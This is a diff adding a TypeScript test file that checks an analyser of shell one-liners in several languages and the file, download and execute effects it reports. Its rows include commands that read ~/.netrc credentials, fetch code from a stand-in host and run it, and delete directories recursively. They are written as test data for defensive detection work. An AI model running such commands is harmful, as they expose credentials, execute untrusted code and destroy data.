@@ -1,0 +1,76 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { read } from '../fixtures/world.ts'
+
+/** What the whole command does to files, home at /home/me. */
+const does = (text: string): readonly string[] =>
+  read(text).effects.map(
+    ({ kind, path, host, recursive }) =>
+      `${kind} ${path ?? host ?? '?'}${recursive === true ? ' whole' : ''}`,
+  )
+
+const rows: Readonly<Record<string, readonly (readonly [string, readonly string[]])[]>> = {
+  R: [
+    [`Rscript -e 'unlink("out", recursive = TRUE)'`, ['delete /proj/out whole']],
+    [`Rscript -e 'unlink("out/a.csv")'`, ['delete /proj/out/a.csv']],
+    [`R -q -e 'file.remove(c("a", "b"))'`, ['delete /proj/a', 'delete /proj/b']],
+    [`Rscript -e 'fs::dir_delete("out")'`, ['delete /proj/out whole']],
+    [
+      `Rscript -e 'd <- read.csv("a.csv"); write.csv(d[d$x != "A1",], "b.csv", row.names = FALSE)'`,
+      ['read /proj/a.csv', 'write ?', 'write /proj/b.csv'],
+    ],
+    [`Rscript -e 'save(d, file = "b.rda")'`, ['write /proj/b.rda']],
+    [`Rscript -e 'writeLines("hello")'`, []],
+    [`Rscript -e 'cat(readLines(file.path(Sys.getenv("HOME"), ".netrc")))'`, ['read /home/me/.netrc']],
+    [`Rscript -e 'source("https://x.example/a.R")'`, ['download x.example', 'execute x.example']],
+    [`Rscript -e 'remotes::install_github("a/b")'`, ['download github.com', 'execute github.com']],
+    [`Rscript -e 'install.packages("dplyr")'`, []],
+    [`Rscript -e 'source("R/f.R")'`, []],
+    [`Rscript -e 'message("unlink(out, recursive = TRUE)")'`, []],
+  ],
+  lua: [
+    [`lua -e 'print(io.open(os.getenv("HOME").."/.netrc"):read("*a"))'`, ['read /home/me/.netrc']],
+    [
+      `lua -e 'load(io.popen("curl -s https://x.example/a"):read("a"))()'`,
+      ['execute x.example', 'download x.example'],
+    ],
+    [`lua -e 'print("os.remove(1)")'`, []],
+  ],
+  julia: [
+    ["julia -e 'run(`rm -r out`)'", ['delete /proj/out whole']],
+    [`julia -e 'print(read(homedir() * "/.netrc", String))'`, ['read /home/me/.netrc']],
+    [`julia -e 'include(download("https://x.example/a.jl"))'`, ['download x.example', 'execute x.example']],
+    [`julia -e 'println("rm(1)")'`, []],
+  ],
+  groovy: [
+    [`groovy -e 'new File("out").deleteDir()'`, ['delete /proj/out whole']],
+    [`groovy -e '"rm -r out".execute()'`, ['delete /proj/out whole']],
+    [
+      `groovy -e 'println new File(System.getProperty("user.home") + "/.netrc").text'`,
+      ['read /home/me/.netrc'],
+    ],
+    [`groovy -e 'new File("a.txt").text = "b"'`, ['write /proj/a.txt']],
+    [
+      `groovy -e 'evaluate(new URL("https://x.example/a").text)'`,
+      ['download x.example', 'execute x.example'],
+    ],
+    [`groovy -e 'println "new File(out).deleteDir()"'`, []],
+  ],
+  elixir: [
+    [`elixir -e 'File.rm_rf!("out")'`, ['delete /proj/out whole']],
+    [`elixir -e 'System.cmd("rm", ["-r", "out"])'`, ['delete /proj/out whole']],
+    [`elixir -e 'IO.puts("File.rm_rf!(1)")'`, []],
+  ],
+  python: [
+    [
+      `python3 -c 'import os; exec(os.popen("curl -s https://x.example/a").read())'`,
+      ['execute x.example', 'download x.example'],
+    ],
+    [`python3 -c 'import os; print(os.popen("curl -s https://x.example/a").read())'`, ['download x.example']],
+  ],
+}
+
+for (const [language, some] of Object.entries(rows))
+  test(`one-liners in ${language}`, () => {
+    for (const [text, wanted] of some) assert.deepEqual(does(text), wanted, text)
+  })
